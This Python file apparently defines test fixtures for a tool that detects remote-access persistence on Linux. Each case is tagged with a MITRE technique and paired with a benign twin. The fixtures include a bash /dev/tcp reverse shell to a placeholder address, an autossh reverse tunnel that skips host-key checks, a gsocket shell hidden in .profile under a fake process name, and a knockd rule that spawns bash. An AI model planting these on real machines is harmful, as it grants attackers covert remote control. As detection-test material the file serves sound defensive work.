"""Ways in from afar, and shells that run now."""

from __future__ import annotations

from typing import Final

from plantings.case import Case, Twin, add, both, nothing, put, run, shell, unit
from plantings.command import ADDRESS, program
from plantings.trust import RULES
from pratique.demo.program import binary

_REMOTE: Final = "Remote access, tunnels"

_SHELLS: Final = "Shells that run now"

_ETC: Final = "/etc/systemd/system"


def _service(
    slug: str, what: str, technique: str, name: str, path: str, arguments: str, twin: Twin
) -> Case:
    place = f"{_ETC}/{name}.service"
    return Case(
        slug,
        _REMOTE,
        technique,
        what,
        place,
        both(program(path), put(place, unit(f"{path} {arguments}"))),
        twin,
    )


_TUNNEL: Final = Twin(
    "tunnel-own",
    "a database of one's own, over ssh",
    f"{_ETC}/tunnel.service",
    put(
        f"{_ETC}/tunnel.service",
        unit("/usr/bin/autossh -M 0 -N -L 3307:127.0.0.1:3306 db.harbour.example", "User=anna"),
    ),
)

_AGENT: Final = Twin(
    "agent-own",
    "an agent that watches the machine",
    f"{_ETC}/node-exporter.service",
    both(
        program("/opt/node_exporter/node_exporter"),
        put(
            f"{_ETC}/node-exporter.service", unit("/opt/node_exporter/node_exporter", "User=nobody")
        ),
    ),
)


CASES: Final = (
    Case(
        "autossh",
        _REMOTE,
        "T1572",
        "a way back in through ssh",
        f"{_ETC}/net-keep.service",
        both(
            put(
                "/var/lib/misc/.k",
                "-----BEGIN OPENSSH PRIVATE KEY-----\nbm8ga2V5\n-----END OPENSSH PRIVATE KEY-----\n",
                0o600,
            ),
            put(
                f"{_ETC}/net-keep.service",
                unit(
                    f"/usr/bin/autossh -M 0 -N -i /var/lib/misc/.k -o StrictHostKeyChecking=no -R 2222:localhost:22 t@{ADDRESS}"
                ),
            ),
        ),
        _TUNNEL,
    ),
    _service(
        "cloudflared",
        "a tunnel of somebody's",
        "T1572",
        "cloudflared",
        "/usr/local/bin/cloudflared",
        "tunnel run --token bm8gdG9rZW4",
        _AGENT,
    ),
    _service(
        "frpc",
        "a tunnel of somebody's",
        "T1572",
        "frpc",
        "/usr/local/bin/frpc",
        "-c /etc/frp/frpc.toml",
        _AGENT,
    ),
    _service(
        "ngrok",
        "a tunnel of somebody's",
        "T1572",
        "ngrok",
        "/usr/local/bin/ngrok",
        "tcp 22",
        _AGENT,
    ),
    Case(
        "gsocket",
        _REMOTE,
        "T1219",
        "a shell over a relay, under a common name",
        "/home/bruno/.profile",
        both(
            run("/home/bruno/.config/htop/defunct", binary("gs-netcat"), (1001, 1001)),
            put("/home/bruno/.config/htop/defunct.dat", "bm8gc2VjcmV0\n", 0o600, (1001, 1001)),
            add(
                "/home/bruno/.profile",
                "{ echo GS_ARGS | TERM=xterm exec -a '[kcached]' /home/bruno/.config/htop/defunct -s bm8gc2VjcmV0 -liD; } 2>/dev/null #1b5b324a50524e44\n",
            ),
        ),
        _AGENT,
    ),
    _service(
        "rustdesk",
        "somebody sees the screen",
        "T1219",
        "rustdesk",
        "/usr/local/bin/rustdesk",
        "--service",
        _AGENT,
    ),
    _service(
        "tailscale",
        "a network of somebody's",
        "T1133",
        "tailscaled",
        "/usr/local/sbin/tailscaled",
        "--state=/var/lib/tailscale/t --authkey=bm8ga2V5",
        _AGENT,
    ),
    Case(
        "knockd",
        _REMOTE,
        "T1205.001",
        "a port that opens for whoever knocks",
        "/etc/knockd.conf",
        put(
            "/etc/knockd.conf",
            f"[open]\n sequence = 7000,8000,9000\n command = /sbin/iptables -I INPUT -s %IP% -j ACCEPT; {'/bin/bash -i'}\n",
        ),
        RULES,
    ),
    Case(
        "bind-shell",
        _SHELLS,
        "T1059.004",
        "a program that waits for a connection",
        "/tmp/bd64",
        program("/tmp/bd64"),
        None,
        "setup_bind_shell",
        table="file",
    ),
    Case(
        "bind-shell-tool",
        _SHELLS,
        "T1059.004",
        "nc, socat or node that wait for a connection",
        "/proc",
        nothing,
        None,
        "setup_bind_shell",
        table="file",
        unseen="a process leaves nothing on the disk; it is gone with the power",
    ),
    Case(
        "reverse-shell",
        _SHELLS,
        "T1059.004",
        "a shell that connects back",
        "/proc",
        nothing,
        None,
        "setup_reverse_shell",
        table="file",
        unseen="a process leaves nothing on the disk; it is gone with the power",
    ),
    Case(
        "shell-script",
        _SHELLS,
        "T1059.004",
        "a script that connects back, in a shared folder",
        "/dev/shm/.r.sh",
        run("/dev/shm/.r.sh", shell(f"bash -i >& /dev/tcp/{ADDRESS}/1337 0>&1")),
        None,
        table="file",
    ),
)
